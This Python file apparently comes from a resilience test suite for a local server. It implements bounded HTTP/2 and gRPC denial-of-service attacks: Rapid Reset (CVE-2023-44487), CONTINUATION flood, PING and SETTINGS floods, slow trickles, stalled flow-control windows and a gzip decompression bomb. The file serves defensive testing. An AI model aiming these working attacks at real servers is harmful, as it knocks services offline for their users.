# SPDX-License-Identifier: Apache-2.0
"""Hostile clients of a hubcached on this machine: each attack ends by itself, after a time and a
number of connections, streams and bytes. `attack(name, address, seconds)` runs one in this
process; as a program, `hostile.py NAME ADDRESS SECONDS` prints what the attacker was told."""

import collections
import gzip
import random
import struct
import sys
import time

from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, \
    INITIAL_WINDOW_SIZE, MAGIC, OUTGOING_MAX, PING, PREFACE, RST_STREAM, SETTINGS, \
    WINDOW_UPDATE, Connection, Unfinished, frame, header, indexed_headers, message, pump_all, \
    request_headers, setting

RESETS_MAX, FRAMES_MAX = 2_000_000, 2_000_000  # of one connection
CONNECTS_MAX = 20_000  # of one attack
BOMB = "decompression bomb"
REPO, LARGE = "bench/attacks", "large.safetensors"  # what the server has
FILE_REQUEST = b"\x0a\x0dbench/attacks\x22\x0bconfig.json"  # ResolveFileRequest
READ_REQUEST = b"\x0a\x22\x0a\x0dbench/attacks\x22\x11large.safetensors"  # ReadFileRequest


# --- connections that are hostile -----------------------------------------------------------


class RapidReset(Connection):
    """CVE-2023-44487: opens a stream and resets it at once, so none counts as concurrent."""

    body, batch = b"", 500

    def __init__(self, address):
        self.stream = 1
        self.first, self.next = indexed_headers("ResolveFile")
        super().__init__(address)

    def request(self, headers):
        stream, self.stream = self.stream, self.stream + 2
        data = frame(DATA, END_STREAM, stream, self.body) if self.body else b""
        return frame(HEADERS, END_HEADERS, stream, headers) + data + \
            frame(RST_STREAM, 0, stream, struct.pack(">I", 8))

    def more(self):
        if self.stream == 1:
            self.outgoing += self.request(self.first)
        if self.stream < 2 * RESETS_MAX:
            self.outgoing += b"".join(self.request(self.next) for _ in range(self.batch))


class RapidResetOfRequests(RapidReset):
    """The same, each with a whole request."""

    body = message(FILE_REQUEST)


class OpenStreams(Connection):
    """As many streams as the server allows, whose requests never begin."""

    count, flags = 1024, END_HEADERS

    def opening(self):
        headers = request_headers("ResolveFile")
        return PREFACE + b"".join(frame(HEADERS, self.flags, 1 + 2 * n, headers)
                                  for n in range(self.count))


class HeadersWithoutEnd(OpenStreams):
    """One stream, whose list of headers is never complete."""

    count, flags = 1, 0


class ContinuationFlood(HeadersWithoutEnd):
    """CVE-2024-27316: headers go on in CONTINUATION for ever."""

    part = header("x-flood", "a" * 100) * (FRAME_MAX // 110)

    def more(self):
        if self.sent < FRAMES_MAX * 100:
            self.outgoing += frame(CONTINUATION, 0, 1, self.part) * 4


class Metadata(Connection):
    """Requests with 100,000 bytes of metadata each."""

    stream = 1

    def more(self):
        block = request_headers("ResolveFile") + header("x-large", "a" * 100_000)
        parts = [block[at:at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
        self.outgoing += frame(HEADERS, 0, self.stream, parts[0])
        for part in parts[1:]:
            self.outgoing += frame(CONTINUATION, END_HEADERS * (part is parts[-1]), self.stream,
                                   part)
        self.outgoing += frame(DATA, END_STREAM, self.stream, message(FILE_REQUEST))
        self.stream += 2


class Trickle(Connection):
    """A preface of which a byte is sent every now and then."""

    answers_server = False  # that would be in the middle of it

    def opening(self):
        self.left, self.due = bytearray(self.whole()), 0
        return b""

    def whole(self):
        return MAGIC

    def more(self):
        if self.left and time.monotonic() >= self.due:
            self.outgoing.append(self.left.pop(0))
            self.due = time.monotonic() + 0.25


class TrickleOfFrame(Trickle):
    """The same with the headers of a request."""

    def opening(self):
        return PREFACE + super().opening()

    def whole(self):
        return frame(HEADERS, END_HEADERS, 1, request_headers("ResolveFile"))


class Flood(Connection):
    """One kind of frame without end; reads no answer."""

    frames = b""

    def receive(self):
        """Nothing: the answers fill the socket."""

    def more(self):
        if self.sent < FRAMES_MAX * len(self.frames):
            self.outgoing += self.frames * (OUTGOING_MAX // len(self.frames) // 4)


class PingFlood(Flood):
    frames = frame(PING, 0, 0, b"\0" * 8)


class SettingsFlood(Flood):
    frames = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535))


class PingFloodThatReads(PingFlood):
    def receive(self):
        Connection.receive(self)


class SettingsFloodThatReads(SettingsFlood):
    def receive(self):
        Connection.receive(self)


class Windows(Connection):
    """Reads of a large file that the client's window holds up: it opens a byte at a time."""

    streams = range(1, 80, 2)

    def opening(self):
        requests = b"".join(
            frame(HEADERS, END_HEADERS, stream, request_headers("ReadFile"))
            + frame(DATA, END_STREAM, stream, message(READ_REQUEST)) for stream in self.streams)
        return MAGIC + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0)) + requests

    def more(self):
        self.outgoing += b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
                                  for stream in self.streams)


class WindowChanges(Windows):
    """The same, and SETTINGS change the window of all streams up and down."""

    def more(self):
        for size in (1, 0):
            self.outgoing += frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, size))


class Bombs(Unfinished):
    """Requests that it sends whole, and whose answers it awaits."""

    def pump(self):
        return Connection.pump(self)


# --- attacks --------------------------------------------------------------------------------


def hold(kind, count):
    """An attack of `count` connections at the same time."""

    def run(address, seconds):
        connections = [kind(address) for _ in range(count)]
        pump_all(connections, seconds)
        return connections

    return run


def bodies_without_end(address, seconds):
    """150 requests of 4 MB without their last bytes, which the server holds meanwhile."""
    content = memoryview(struct.pack(">BI", 0, 4_000_000) + b"\x22\x08abcdefgh" * 399_990)
    connections = [Unfinished(address, 10, content) for _ in range(15)]
    pump_all(connections, seconds)
    return connections


def bomb(mebibytes):
    """A ResolveFilesRequest of so many MiB, compressed, as a message."""
    name = b"\x22\xff\xff\x3f" + bytes(0xfffff)
    return message(gzip.compress(name * mebibytes), flags=1)


def decompression_bomb(address, seconds):
    """Requests of about 65 kB that expand to 64 MiB each."""
    content = memoryview(bomb(64))
    connections = [Bombs(address, 2, content, grpc_encoding="gzip") for _ in range(2)]
    pump_all(connections, seconds, lambda: not any(each.left for each in connections))
    return connections


def reconnect(opening, at_once):
    """An attack that sends some bytes on a connection, waits for its end, and connects again."""

    class Once(Connection):
        def opening(self):
            return opening()

    def run(address, seconds):
        end, done = time.monotonic() + seconds, []
        while time.monotonic() < end and len(done) < CONNECTS_MAX:
            connections = [Once(address) for _ in range(at_once)]
            pump_all(connections, min(1, end - time.monotonic()))
            for connection in connections:
                connection.close()
            done += connections
        return done

    return run


def garbage_frames(source=random.Random(1)):
    """Frames of the known kinds with random flags, streams and contents."""
    return PREFACE + b"".join(
        frame(source.randrange(12), source.randrange(256), source.randrange(9),
              source.randbytes(source.choice((0, 4, 8, 200, FRAME_MAX)))) for _ in range(20))


def garbage_preface(source=random.Random(2)):
    return source.randbytes(4096)


ATTACKS = {
    "rapid reset": hold(RapidReset, 4),
    "rapid reset of whole requests": hold(RapidResetOfRequests, 4),
    "1,100 idle connections": hold(Connection, 1100),
    "10,240 streams without a request": hold(OpenStreams, 10),
    "150 requests without an end": bodies_without_end,
    "headers without an end": hold(HeadersWithoutEnd, 200),
    "CONTINUATION flood": hold(ContinuationFlood, 4),
    "100,000 bytes of metadata": hold(Metadata, 4),
    "a trickle of a preface": hold(Trickle, 200),
    "a trickle of a request": hold(TrickleOfFrame, 200),
    "garbage frames": reconnect(garbage_frames, 20),
    "garbage in place of a preface": reconnect(garbage_preface, 20),
    "PING flood": hold(PingFloodThatReads, 4),
    "PING flood, answers not read": hold(PingFlood, 4),
    "SETTINGS flood": hold(SettingsFloodThatReads, 4),
    "SETTINGS flood, answers not read": hold(SettingsFlood, 4),
    "a window of a byte": hold(Windows, 4),
    "a window that changes": hold(WindowChanges, 4),
    "a window that overflows": reconnect(
        lambda: MAGIC + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff"),
        20),
    BOMB: decompression_bomb,
}


def attack(name, address, seconds):
    """Counts of what the attacker was told."""
    connections = ATTACKS[name](address, seconds)
    told = collections.Counter(text for connection in connections
                               for text in connection.told or ["nothing"])
    for connection in connections:
        connection.close()
    return told


def main(name, address, seconds):
    for text, count in attack(name, address, float(seconds)).most_common(4):
        print(f"{count} x {text}")


if __name__ == "__main__":
    main(*sys.argv[1:])
